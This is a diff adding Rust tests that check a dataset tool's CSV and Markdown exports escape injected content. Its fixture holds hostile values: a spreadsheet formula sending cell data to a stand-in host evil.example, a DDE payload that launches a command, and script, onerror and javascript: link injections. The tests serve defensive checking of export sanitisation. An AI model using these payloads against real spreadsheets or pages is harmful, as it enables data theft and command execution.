@@ -240,3 +240,95 @@ fn error_messages_are_clean_whatever_the_file_name_and_contents() {
     );
     assert_clean("validation errors", msg.as_bytes());
 }
+
+/// A dataset whose text is written to attack what its exports are opened in: spreadsheet
+/// formulas (OWASP's CSV injection), HTML and script, and links to `javascript:`.
+fn attacking_exports() -> kazaf::data::Db {
+    let text = crate::common::EXAMPLE
+        .replacen(
+            r#"title: "Diplomatic relations""#,
+            r#"title: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")""#,
+            1,
+        )
+        .replacen(
+            r#"text: "The two states establish diplomatic relations.""#,
+            r#"text: "<script>alert(1)</script> <img src=x onerror=alert(2)> [click](javascript:alert(3)) &amp;""#,
+            1,
+        )
+        .replacen(
+            r#"title: "Joint commission meets""#,
+            r#"title: "@SUM(1+1)*cmd|' /C calc'!A0""#,
+            1,
+        )
+        .replacen(
+            r#"(number: 2, title: "Trade statistics 2010", kind: Document)"#,
+            r#"(number: 2, title: "Trade statistics 2010", locator: "javascript:alert(4)", kind: Document)"#,
+            1,
+        );
+    load_str("attack.ron", &text).expect("the attacking dataset is valid")
+}
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_are_written_as_text() {
+    let db = attacking_exports();
+    let csv = export::csv(&db, Table::Events);
+    let mut rows = ::csv::ReaderBuilder::new()
+        .from_reader(csv.as_bytes())
+        .into_records()
+        .map(Result::unwrap);
+    let titles: Vec<String> = rows.by_ref().map(|r| r[5].to_string()).collect();
+    assert!(titles.contains(&r#"'=HYPERLINK("http://evil.example/?"&A1,"x")"#.to_string()));
+    assert!(titles.contains(&"'@SUM(1+1)*cmd|' /C calc'!A0".to_string()));
+    // No cell of any table starts a formula.
+    for &table in <Table as clap::ValueEnum>::value_variants() {
+        let csv = export::csv(&db, table);
+        for record in ::csv::Reader::from_reader(csv.as_bytes()).into_records() {
+            for cell in &record.unwrap() {
+                let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+                assert!(
+                    !formula || cell.parse::<f64>().is_ok(),
+                    "{table:?}: a cell starts a formula: {cell:?}"
+                );
+            }
+        }
+    }
+}
+
+#[test]
+fn markdown_carries_no_html_and_links_only_to_the_web() {
+    let db = attacking_exports();
+    let md = export::markdown(&db);
+    assert!(!md.contains("<script") && !md.contains("<img"), "raw HTML");
+    assert!(
+        md.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
+        "shown as text"
+    );
+    assert!(
+        md.contains("&amp;amp;"),
+        "an entity in data is shown, not decoded"
+    );
+    // A `]` that closes link text is never the data's: the data's are escaped.
+    for (i, _) in md.match_indices("](") {
+        assert!(
+            md[..i].ends_with('\\'),
+            "a link: {}",
+            &md[i.saturating_sub(20)..i + 20]
+        );
+    }
+    assert!(
+        md.contains(r"\[click\](javascript:alert(3))"),
+        "the link text is kept as text"
+    );
+    // Locators: the web one is a link, the other is code.
+    assert!(md.contains("<https://example.org/report>"));
+    assert!(md.contains("`javascript:alert(4)`"));
+    assert!(!md.contains("<javascript"));
+    // The only `<` left open a web link.
+    for (i, _) in md.match_indices('<') {
+        assert!(
+            md[i..].starts_with("<https://"),
+            "{}",
+            &md[i..(i + 30).min(md.len())]
+        );
+    }
+}
